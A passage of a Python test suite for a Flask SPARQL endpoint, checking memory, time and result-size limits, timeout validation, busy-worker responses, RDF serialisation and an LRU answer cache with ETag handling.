    assert whole.status_code == 200 and "SPARQL-Results-Truncated" not in whole.headers
    assert read(client, whole.data) == 1


def test_a_value_over_16_mib_is_answered_and_shown(client: FlaskClient) -> None:
    """Oxigraph's TSV, JSON and N-Triples parsers refuse a value over 16 MiB: no
    answer goes through them on its way out, and the page reads at most 16 MiB."""
    doublings = " ".join(f"BIND(CONCAT(?a{i}, ?a{i}) AS ?a{i + 1})" for i in range(21))
    query = f'SELECT ?v WHERE {{ BIND("0123456789abcdef" AS ?a0) {doublings} BIND(?a21 AS ?v) }}'
    answer = client.get("/sparql", query_string={"query": query})
    assert answer.status_code == 200 and "SPARQL-Results-Truncated" not in answer.headers
    assert json.loads(answer.data)["results"]["bindings"][0]["v"]["value"] == (
        "0123456789abcdef" * 2**21
    )
    page = client.get("/sparql", query_string={"query": query}, headers={"Accept": BROWSER})
    assert page.status_code == 200
    assert "0 rows: the table stops here" in page.text


#: Doubles a 1 KiB string 22 times (4 GiB), answering only its length.
_DOUBLINGS = " ".join(f"BIND(CONCAT(?a{i}, ?a{i}) AS ?a{i + 1})" for i in range(22))
DOUBLING = (
    f'SELECT (STRLEN(?a22) AS ?n) WHERE {{ BIND("{"0123456789abcdef" * 64}" AS ?a0) {_DOUBLINGS} }}'
)


def test_a_query_past_the_memory_limit_is_503_and_the_next_is_answered(
    make_app: MakeApp,
) -> None:
    app = make_app(QUERY_WORKER_MEMORY=384 * 2**20, QUERY_WORKERS=1)
    client = app.test_client()
    response = client.get("/sparql", query_string={"query": DOUBLING})
    assert response.status_code == 503
    assert "needed more memory than allowed (384 MiB)" in response.text
    assert "Retry-After" not in response.headers, "the same query would fail again"
    after = client.get("/sparql", query_string={"query": "ASK {}"})
    assert after.status_code == 200 and after.get_json()["boolean"] is True


#: 21 000 triples: evaluated in milliseconds, compacted as JSON-LD in seconds, for
#: rdf:nil (the empty list) leaves them to pyld (compaction.py writes no RDF list).
_DIGITS = "{ " + " ".join(str(i) for i in range(10)) + " }"
MANY_TRIPLES = f"""CONSTRUCT {{
  ?s <urn:example:p> ?o ; <urn:example:steps> <http://www.w3.org/1999/02/22-rdf-syntax-ns#nil>
}} WHERE {{
  VALUES ?a {_DIGITS} VALUES ?b {_DIGITS} VALUES ?c {_DIGITS} VALUES ?d {_DIGITS}
  VALUES ?e {{ 0 1 }}
  BIND (IRI(CONCAT("urn:example:s", STR(?a), STR(?b), STR(?c))) AS ?s)
  BIND (CONCAT(STR(?d), STR(?e)) AS ?o)
}}"""


def test_json_ld_is_written_within_the_time_limit(client: FlaskClient) -> None:
    """JSON-LD compaction is part of the query's time: timeout=0.5 stops it."""
    response = client.get(
        "/sparql",
        query_string={"query": MANY_TRIPLES, "timeout": "0.5"},
        headers={"Accept": "application/ld+json"},
    )
    assert response.status_code == 503
    assert "limit of 0.5 seconds" in response.text


LABELS = (
    "PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>\nCONSTRUCT WHERE { ?s rdfs:label ?o }"
)


@pytest.mark.parametrize("key", ["turtle", "jsonld", "ntriples", "rdfxml", "trig", "nquads"])
def test_graph_answers_are_written_as_the_service_writes_rdf(
    app: Flask, client: FlaskClient, key: str
) -> None:
    """The same bytes as the service's own writer (``responses.serialize``: prefixes,
    JSON-LD compacted with the context) gives for the answer's triples."""
    media_type = BY_KEY[key]
    response = client.get(
        "/sparql", query_string={"query": LABELS}, headers={"Accept": media_type.mimetype}
    )
    nt = client.get(
        "/sparql", query_string={"query": LABELS}, headers={"Accept": "application/n-triples"}
    )
    triples = list(ox.parse(nt.data, format=ox.RdfFormat.N_TRIPLES))
    with app.test_request_context("/sparql", headers={"Accept": media_type.mimetype}):
        expected = serialize(triples, media_type)
    assert response.data == expected


def test_this_process_writes_no_json_ld_and_caches_the_bytes(
    make_app: MakeApp, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The query worker compacts JSON-LD; the request thread only sends the bytes,
    and a repeat gets the same bytes from the cache."""
    from healthtech_lod import jsonld

    def refused(*args: object, **kwargs: object) -> None:
        raise AssertionError("JSON-LD compacted in the request's process")

    # Its build (the JSON-LD dump) done before compaction is refused.
    app = make_app(ALLOWED_HOSTS=["localhost", "example.org"])
    monkeypatch.setattr(jsonld, "compact", refused)
    client = app.test_client()
    headers = {"Accept": "application/ld+json"}
    first = client.get("/sparql", query_string={"query": LABELS}, headers=headers)
    assert first.status_code == 200, first.text
    executor = app.extensions["healthtech_lod.executor"]
    calls: list[str] = []
    original = executor.execute

    def counting(text: str, **options: object) -> object:
        calls.append(text)
        return original(text, **options)

    executor.execute = counting  # type: ignore[method-assign]
    again = client.get("/sparql", query_string={"query": LABELS}, headers=headers)
    assert calls == [] and again.data == first.data
    assert json.loads(first.data)["@context"][0] == "http://localhost/context.jsonld"
    expanded = client.get(
        "/sparql",
        query_string={"query": LABELS},
        headers={"Accept": 'application/ld+json; profile="http://www.w3.org/ns/json-ld#expanded"'},
    )
    assert len(calls) == 1 and isinstance(json.loads(expanded.data), list), "another form"
    other_host = client.get(
        "/sparql", query_string={"query": LABELS}, headers={**headers, "Host": "example.org"}
    )
    assert len(calls) == 2, "the context's URL names the host: another answer"
    assert json.loads(other_host.data)["@context"][0] == "http://example.org/context.jsonld"


def test_a_query_past_its_time_limit_is_503_on_the_page_too(client: FlaskClient) -> None:
    response = client.get(
        "/sparql", query_string={"query": RUNAWAY, "timeout": "0.5"}, headers={"Accept": BROWSER}
    )
    assert response.status_code == 503
    error = response.text[response.text.index('id="query-error"') :]
    assert "limit of 0.5 seconds" in error.split("</p>")[0]


def test_a_timeout_too_short_to_meet_is_raised_to_the_floor(client: FlaskClient) -> None:
    """timeout=0.000001 would kill and respawn a query worker for any query; it is
    raised to MIN_QUERY_TIMEOUT, so a quick query still gets its answer."""
    query = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f }"  # some ms, not 0.5 s
    response = client.get(
        "/sparql",
        query_string={"query": query, "timeout": "0.000001"},
        headers={"Accept": "application/sparql-results+json"},
    )
    assert response.status_code == 200, response.text
    assert len(response.get_json()["results"]["bindings"]) == 1


@pytest.mark.parametrize("timeout", ["0", "-1", "soon", "nan", "inf", "1e999"])
def test_a_timeout_that_is_not_a_positive_number_is_400(client: FlaskClient, timeout: str) -> None:
    response = client.get("/sparql", query_string={"query": "ASK {}", "timeout": timeout})
    assert response.status_code == 400
    assert "timeout must be a positive number of seconds" in response.text


def test_every_query_worker_busy_is_503_with_retry_after(make_app: MakeApp) -> None:
    import threading

    app = make_app(QUERY_WORKERS=1, QUERY_QUEUE_TIMEOUT=0.1, QUERY_TIMEOUT=20)
    app.test_client().get("/sparql", query_string={"query": "ASK {}"})  # the worker is up
    started = threading.Event()

    def runaway() -> None:
        started.set()
        app.test_client().get("/sparql", query_string={"query": RUNAWAY, "timeout": "1"})

    thread = threading.Thread(target=runaway)
    thread.start()
    started.wait()
    busy = None
    for attempt in range(50):  # until the runaway holds the only worker
        query = f"ASK {{}} # attempt {attempt}"  # never answered from the cache
        answer = app.test_client().get("/sparql", query_string={"query": query})
        if answer.status_code == 503:
            busy = answer
            break
    thread.join()
    assert busy is not None, "a second query found the only worker free every time"
    assert busy.headers["Retry-After"] == "2"
    assert "busy" in busy.text


def test_the_service_description_states_every_limit(make_app: MakeApp) -> None:
    client = make_app(
        QUERY_TIMEOUT=7,
        MAX_RESULT_ROWS=500,
        RATE_LIMIT=9,
        MAX_ANSWER_BYTES=4096,
        MAX_QUERY_NESTING=12,
        MAX_QUERIES_PER_CLIENT=3,
        QUERY_WORKERS=2,
    ).test_client()
    graph = Graph().parse(
        data=client.get("/sparql", headers={"Accept": "text/turtle"}).text, format="turtle"
    )
    lht = "https://w3id.org/lu-healthtech/def#"
    stated = {
        str(p)[len(lht) :]: o.toPython()
        for p, o in graph.predicate_objects(URIRef("https://w3id.org/lu-healthtech/sparql"))
        if str(p).startswith(lht)
    }
    assert stated == {
        "queryTimeLimit": 7000,
        "maxQueryLength": 20_000,
        "maxRequestSize": 65_536,
        "maxResultRows": 500,
        "maxAnswerBytes": 4096,
        "maxQueryNesting": 12,
        "maxConcurrentQueries": 2,
        "maxQueriesPerClient": 3,
        "queriesPerMinute": 9,
    }


# --- the answer cache and conditional requests -----------------------------------------


def test_a_repeated_query_is_answered_from_the_cache(make_app: MakeApp) -> None:
    app = make_app()
    client = app.test_client()
    query = {"query": "SELECT ?s WHERE { ?s ?p ?o } ORDER BY ?s LIMIT 5"}
    first = client.get("/sparql", query_string=query)
    executor = app.extensions["healthtech_lod.executor"]
    calls: list[str] = []
    original = executor.execute

    def counting(text: str, **options: object) -> object:
        calls.append(text)
        return original(text, **options)

    executor.execute = counting  # type: ignore[method-assign]
    second = client.get("/sparql", query_string=query)
    assert calls == [] and second.data == first.data
    as_csv = client.get("/sparql", query_string=query, headers={"Accept": "text/csv"})
    assert len(calls) == 1 and as_csv.mimetype == "text/csv", "another format is another answer"


def test_conditional_get_of_an_answer_is_304(client: FlaskClient) -> None:
    query = {"query": "SELECT ?s WHERE { ?s a ?c } ORDER BY ?s"}
    first = client.get("/sparql", query_string=query)
    etag = first.headers["ETag"]
    assert etag.startswith('W/"') and "max-age" in first.headers["Cache-Control"]
    again = client.get("/sparql", query_string=query, headers={"If-None-Match": etag})
    assert again.status_code == 304 and again.data == b""
    other = client.get(
        "/sparql", query_string=query, headers={"If-None-Match": etag, "Accept": "text/csv"}
    )
    assert other.status_code == 200, "the ETag names one format"
    changed = client.get(
        "/sparql",
        query_string={"query": "SELECT ?s WHERE { ?s a ?c } ORDER BY DESC(?s)"},
        headers={"If-None-Match": etag},
    )
    assert changed.status_code == 200


def test_cache_drops_the_least_recently_used_beyond_its_bytes() -> None:
    from healthtech_lod.cache import ENTRY_OVERHEAD, ResultCache
    from healthtech_lod.queries import QueryOutcome

    def outcome(size: int) -> QueryOutcome:
        return QueryOutcome("select", "json", "application/json", b"x" * size, 1, False)

    entry = 100 + len(repr("a")) + ENTRY_OVERHEAD
    cache = ResultCache(max_bytes=4 * entry)
    for key in "abc":
        cache.put(key, outcome(100))
    assert cache.get("a") is not None  # a is now the most recent
    cache.put("d", outcome(100))
    cache.put("e", outcome(100))
    assert cache.get("b") is None and cache.get("a") is not None
    assert cache.size <= 4 * entry and len(cache) == 4
    cache.put("huge", outcome(101))  # over a quarter of the cache: not kept
    assert cache.get("huge") is None
    cache.put("x" * 2 * entry, outcome(1))  # the key counts too: a long query is not kept
    assert len(cache) == 4
